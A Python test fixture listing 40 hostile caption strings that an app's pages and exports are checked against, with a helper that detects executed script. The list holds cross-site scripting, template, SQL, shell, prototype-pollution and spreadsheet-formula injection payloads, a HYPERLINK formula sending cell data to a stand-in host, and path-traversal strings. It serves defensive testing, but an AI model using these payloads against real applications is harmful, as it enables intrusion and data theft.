"""Captions of attackers and broken captioners: every page and every export meets them all."""

# 40 captions.
HOSTILE = (
    # Markup and scripts. window.hostile is set where one of them runs: see `ran`.
    "<script>window.hostile=1</script>",
    "</script><script>window.hostile=1</script>",
    "</textarea></title></style><script>window.hostile=1</script>",
    "<img src=x onerror=window.hostile=1>",
    "<svg/onload=window.hostile=1>",
    "<svg><script xlink:href=data:,window.hostile=1></script>",
    "<iframe srcdoc='<script>parent.hostile=1</script>'></iframe>",
    "<body onload=window.hostile=1 onfocus=window.hostile=1 autofocus>",
    "<details open ontoggle=window.hostile=1><summary>x</summary></details>",
    "<style>@import 'https://captious.invalid/x.css'; * { display: none !important }</style>",
    "<meta http-equiv=refresh content='0;url=https://captious.invalid/'>",
    "<base href=https://captious.invalid/><form action=/elsewhere><input name=csrf value=stolen>",
    '"><script>window.hostile=1</script>',
    "' onmouseover='window.hostile=1' x='",
    '" autofocus onfocus="window.hostile=1" x="',
    "`${window.hostile=1}` onclick=`window.hostile=1`",
    '<a href="javascript:window.hostile=1">javascript:window.hostile=1</a>',
    "<!-- --!><script>window.hostile=1</script> -->",
    "<![CDATA[<script>window.hostile=1</script>]]>",
    "&lt;script&gt;window.hostile=1&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "%3Cscript%3Ewindow.hostile=1%3C/script%3E \\u003cscript\\u003e \\x3cscript\\x3e",
    # Template languages.
    "{{7*7}} {{ config }} {{ ''.__class__.__mro__ }}",
    "{% for x in range(999999999) %}a{% endfor %} ${7*7} #{7*7} <%= 7*7 %> {0.__class__} %(x)s %s%n",
    # Databases, JSON and command lines.
    "'; DROP TABLE event; --",
    '" OR "1"="1\'; UPDATE slot SET done = 1; --',
    '{"rating": 5, "__proto__": {"hostile": 1}}\\',
    "$(touch hostile) `touch hostile` | touch hostile; & \\",
    # Cells that a spreadsheet computes.
    '=HYPERLINK("https://captious.invalid/?"&A1,"a dog")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    '-2+3,"two"",cells"\r\na second row\ta tab',
    # Paths.
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini %2e%2e%2fetc%2fpasswd file:///etc/passwd",
    # Characters.
    "a dog \u202egnp.exe\u202c and \u2066a \u200fcat\u2069 \u200b\u200d\ufeff",
    "a\x00dog\x00 \x01\x07\x08\x1b[31mred\x1b[0m \x7f\x85\u2028\u2029",
    "\u0635\u0648\u0631\u0629 \u05ea\u05de\u05d5\u05e0\u05d4 \u5199\u771f \u0e23\u0e39\u0e1b \u0939\u093f\u0928",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1eb\U0001f1ee \U0001f44d\U0001f3fd \u2764\ufe0f",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 12 + " a\u0301 e\u0301",
    # Sizes.
    "pneumono" * 500,
    " \t\n ",
)


def ran(page):
    """Whether one of them ran as a script on this page of a browser."""
    return page.evaluate("() => window.hostile !== undefined || ({}).hostile !== undefined")
